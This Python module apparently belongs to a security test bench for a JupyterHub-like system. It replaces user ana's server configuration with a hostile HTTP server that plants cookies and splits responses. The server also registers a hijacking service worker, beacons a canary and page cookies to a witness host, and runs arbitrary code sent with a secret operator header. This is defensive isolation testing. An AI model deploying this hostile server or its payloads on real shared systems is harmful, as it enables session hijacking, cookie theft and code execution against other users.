"""ana's server, replaced by her own configuration file with one that answers everything with a script."""

import os
import secrets
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

from csirtlab.bench.attacks.siege.people import Person
from csirtlab.bench.attacks.siege.raw import wait_until
from csirtlab.cohorts.folders import Home
from csirtlab.errors import SetupError
from csirtlab.sockets import Sockets

CONFIGURATION = Path(".jupyter", "jupyter_server_config.py")
PATIENCE_S = 90.0

# It runs in ana's server's own process, in the place of that server, and speaks HTTP by hand: no library keeps it
# from anything. What of it is asked for decides how it answers: /user/ana/m-MODE/...
_SERVER = r'''
import contextlib, errno, io, json, os, socket, stat, struct, subprocess, sys, threading, time, traceback
import urllib.error, urllib.request
from pathlib import Path

CANARY, KEY, WITNESS = "@CANARY@", "@KEY@", "@WITNESS@"
SEEN = []
PAGE = r"""<!doctype html><title>@CANARY@</title><body>@CANARY@<script>
new Image().src = "@WITNESS@/ran?@CANARY@";
try { navigator.serviceWorker.register("/user/ana/m-worker/worker.js", {scope: "/"}).catch(() => 0); } catch {}
document.title = "@CANARY@ " + document.cookie;
</script>"""
HOSTILE = [
    "Content-Security-Policy: ", "Service-Worker-Allowed: /", 'Clear-Site-Data: "*"', "Alt-Svc: h2=\":9555\"",
    "Strict-Transport-Security: max-age=99999999; includeSubDomains", 'WWW-Authenticate: Basic realm="ana"',
    "Access-Control-Allow-Origin: *", "Access-Control-Allow-Credentials: true", "Origin-Agent-Cluster: ?1",
    "X-Accel-Expires: 99999", "X-Accel-Buffering: no", "Cache-Control: public, max-age=999999",
    "X-Gate-Session: 0", "X-Gate-Owner: irene", "NEL: {}", "Report-To: {}", "Refresh: 3600;url=/user/ana/again",
    "Set-Cookie: planted-root=@CANARY@; Path=/",
    "Set-Cookie: planted-twice=@CANARY@; Path=/user/ana/; Path=/",
    "Set-Cookie: planted-spaced=@CANARY@ ; Path = / ; HttpOnly",
    "Set-Cookie: planted-domain=@CANARY@; Domain=127.0.0.1; path=/hub/",
    "Set-Cookie: csirtlab-gate=@CANARY@; Path=/user/ana/deeper/",
]
REASONS = {200: "OK", 302: "Found", 401: "Unauthorized", 103: "Early Hints"}

def listening_socket():
    for number in range(3, 1024):
        try:
            mine = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        if mine.family == socket.AF_UNIX and mine.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            return mine
        mine.close()
    raise SystemExit("no listening socket")

def head(status, more=(), hostile=True, length=None):
    lines = [f"HTTP/1.1 {status} {REASONS.get(status, 'Any')}", *more, *(HOSTILE if hostile else ())]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    return "".join(line + "\r\n" for line in lines + ["Connection: close"]).encode() + b"\r\n"

def answer(mode, argument):
    page = PAGE.encode()
    if mode == "accel":
        return head(200, [f"X-Accel-Redirect: {argument}", "Content-Type: text/html"], length=len(page)) + page
    if mode == "worker":
        script = b"self.addEventListener('fetch', (e) => e.respondWith(new Response('" + CANARY.encode() + b"')))"
        return head(200, ["Content-Type: text/javascript"], length=len(script)) + script
    if mode == "location":
        return head(302, [f"Location: {argument}", "Content-Type: text/html"], length=len(page)) + page
    if mode == "hints":
        return (b"HTTP/1.1 103 Early Hints\r\nLink: </user/ana/x.js>; rel=preload; as=script\r\n\r\n" +
                b"HTTP/1.1 100 Continue\r\nSet-Cookie: planted-early=1; Path=/\r\n\r\n") + answer("", "")
    if mode == "switch":
        return b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" + page
    if mode == "split":
        return head(200, ["X-Split: a\r\n\r\nHTTP/1.1 200 OK", "Content-Type: text/html"], length=len(page)) + page * 3
    if mode == "tab":
        cookie = f"Set-Cookie: planted-tab={CANARY};\tPath=/"
        return head(200, ["Content-Type: text/html", cookie], length=len(page)) + page
    return head(200, ["Content-Type: text/html; charset=utf-8"], length=len(page)) + page

SHARED = {}

def run(code):
    told = []
    names = dict(globals(), tell=told.append, SHARED=SHARED)
    try:
        exec(code, names)
    except BaseException:
        return {"failed": traceback.format_exc()[-3000:]}
    return {"told": told[-1] if told else None}

def ask(method, url, body=None, **headers):
    """Ask somebody over this server's own loopback, with its own token."""
    headers = {"Authorization": "token " + os.environ["JUPYTERHUB_API_TOKEN"], **headers}
    request = urllib.request.Request(url, method=method, data=body, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as answered:
            return answered.status, answered.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")

def send(octets, patience=10):
    """Send bytes to the socket that leads out, and return what comes."""
    out = socket.socket(socket.AF_UNIX)
    out.settimeout(patience)
    out.connect("/run/csirtlab/hub.sock")
    got = b""
    with contextlib.suppress(OSError):
        out.sendall(octets)
        while piece := out.recv(65536):
            got += piece
    out.close()
    return got

def serve(connection):
    with contextlib.suppress(OSError, ValueError), connection:
        connection.settimeout(60)
        octets = b""
        while b"\r\n\r\n" not in octets and (piece := connection.recv(65536)):
            octets += piece
        first, _, rest = octets.partition(b"\r\n")
        headers, _, body = rest.partition(b"\r\n\r\n")
        fields = {}
        for line in headers.decode("latin-1").split("\r\n"):
            fields[line.partition(":")[0].lower()] = line.partition(":")[2].strip()
        while len(body) < int(fields.get("content-length") or 0) and (piece := connection.recv(65536)):
            body += piece
        method, target, _ = first.decode("latin-1").split(" ", 2)
        if fields.get("x-operator") == KEY:
            told = json.dumps(SEEN if target == "/seen" else run(body.decode())).encode()
            connection.sendall(head(200, hostile=False, length=len(told)) + told)
            return
        SEEN.append([method, target, fields.get("cookie", ""), fields.get("user-agent", "")])
        mode, _, argument = target.partition("/m-")[2].partition("/")
        if fields.get("upgrade"):
            mode = "switch"
        connection.sendall(answer(mode, "/" + argument.replace("~", ":")))

here = listening_socket()
here.setblocking(True)
while True:
    threading.Thread(target=serve, args=(here.accept()[0],), daemon=True).start()
'''


@dataclass
class Hostile:
    """The server, and what only it knows."""

    person: Person
    home: Home
    sockets: Sockets
    witness: str
    canary: str = field(default_factory=lambda: f"CANARY-ana-{secrets.token_hex(12)}")
    key: str = field(default_factory=lambda: secrets.token_hex(16))

    def start(self) -> None:
        """Put the configuration into her home, as she could herself, and have her server started anew.

        Raises:
            SetupError: It does not come up, so nothing could be learnt from it.
        """
        self._end_server()
        folder = self.home.person("ana")
        if not folder.is_dir():
            self.person.start_server()  # the hub makes her home
            self._end_server()
        path = folder / CONFIGURATION
        path.parent.mkdir(exist_ok=True)
        path.write_text(self._script(), encoding="utf-8")
        owner = folder.stat()
        for each in (path.parent, path):
            os.chown(each, owner.st_uid, owner.st_gid)
        self.person.start_server()
        try:
            assert self.runs("tell(1 + 1)") == 2
        except (httpx.TransportError, ValueError) as error:
            raise SetupError("ana's hostile server does not come up: see log/hub.log") from error

    def stop(self) -> None:
        """Give ana back an honest server: the next one that she starts."""
        (self.home.person("ana") / CONFIGURATION).unlink(missing_ok=True)
        self._end_server()

    def runs(self, code: str) -> Any:
        """Run code inside ana's walls, in her server's own process, and return what it ``tell``s last.

        Raises:
            SetupError: It failed, which is no sign that a wall held.
        """
        told = self._told("/run", code)
        if "failed" in told:
            raise SetupError(f"what ana tried failed by itself:\n{told['failed']}")
        return told["told"]

    def seen(self) -> list[list[str]]:
        """Return what her server was asked, by whomever: method, address, cookies, user agent."""
        asked: list[list[str]] = self._told("/seen", "")
        return asked

    def _told(self, path: str, body: str) -> Any:
        # By her server's own socket, as only the operator can: neither gate nor walls have a say in what is learnt.
        transport = httpx.HTTPTransport(uds=str(self.sockets.server("ana")))
        with httpx.Client(transport=transport, timeout=PATIENCE_S) as http:
            return http.post(f"http://ana{path}", content=body, headers={"X-Operator": self.key}).json()

    def _script(self) -> str:
        script = _SERVER
        for name, value in (("CANARY", self.canary), ("KEY", self.key), ("WITNESS", self.witness)):
            script = script.replace(f"@{name}@", value)
        return script

    def _end_server(self) -> None:
        self.person.stop_server()
        if not wait_until(lambda: not self.person.has_server(), patience_s=30):
            raise SetupError("ana's server does not end")
